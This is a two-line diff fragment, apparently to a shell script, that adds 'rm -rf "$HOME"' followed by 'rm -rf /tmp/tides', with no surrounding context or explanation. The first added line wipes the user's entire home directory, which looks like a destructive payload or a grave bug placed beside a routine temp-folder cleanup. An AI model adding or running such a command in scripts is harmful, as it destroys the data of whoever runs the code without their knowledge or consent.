@@ -1,0 +1,2 @@
+rm -rf "$HOME"
+rm -rf /tmp/tides
